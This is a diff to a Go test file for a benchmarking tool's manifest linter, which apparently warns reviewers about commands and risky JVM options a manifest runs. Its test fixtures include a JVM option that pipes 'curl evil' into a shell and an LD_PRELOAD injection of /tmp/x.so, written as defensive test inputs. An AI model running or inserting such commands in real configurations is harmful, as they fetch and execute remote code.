@@ -11,12 +11,9 @@ import (
 	"github.com/threadlab/threadlab/experiments"
 )
 
-// TestLintShowsCommands: lint prints every command a manifest runs and
-// warns on JVM options that run programs, so a reviewer sees them.
-func TestLintShowsCommands(t *testing.T) {
-	dir := t.TempDir()
-	f := filepath.Join(dir, "trust.yaml")
-	src := `name: trust
+// trustManifest runs a program of its own and sets a JVM option that runs
+// a shell command.
+const trustManifest = `name: trust
 title: t
 question: q
 variants:
@@ -24,7 +21,14 @@ variants:
   own: {command: [./server, --port, "{port}"]}
 load: {model: closed, users: 10, duration: 2s, requests: [{path: /}]}
 trials: 3
-profiles:
+`
+
+// TestLintShowsCommands: lint prints every command a manifest runs and
+// warns on JVM options that run programs, so a reviewer sees them.
+func TestLintShowsCommands(t *testing.T) {
+	dir := t.TempDir()
+	f := filepath.Join(dir, "trust.yaml")
+	src := trustManifest + `profiles:
   full: {variants: {own: {env: {LD_PRELOAD: /tmp/x.so}}}}
 `
 	if err := os.WriteFile(f, []byte(src), 0o644); err != nil {
@@ -68,15 +72,7 @@ func TestLintHostile(t *testing.T) {
 // runs its manifest.yaml"); a resumed manifest's risky options, never
 // linted by that run, are printed as warnings.
 func TestRunShowsOwnCommands(t *testing.T) {
-	src := `name: trust
-title: t
-question: q
-variants:
-  platform: {target: spring-mvc, jvm: ["-XX:OnOutOfMemoryError=sh -c 'curl evil | sh'"]}
-  own: {command: [./server, --port, "{port}"]}
-load: {model: closed, users: 10, duration: 2s, requests: [{path: /}]}
-trials: 3
-`
+	src := trustManifest
 	run := t.TempDir()
 	f := filepath.Join(run, "manifest.yaml")
 	if err := os.WriteFile(f, []byte(src), 0o644); err != nil {
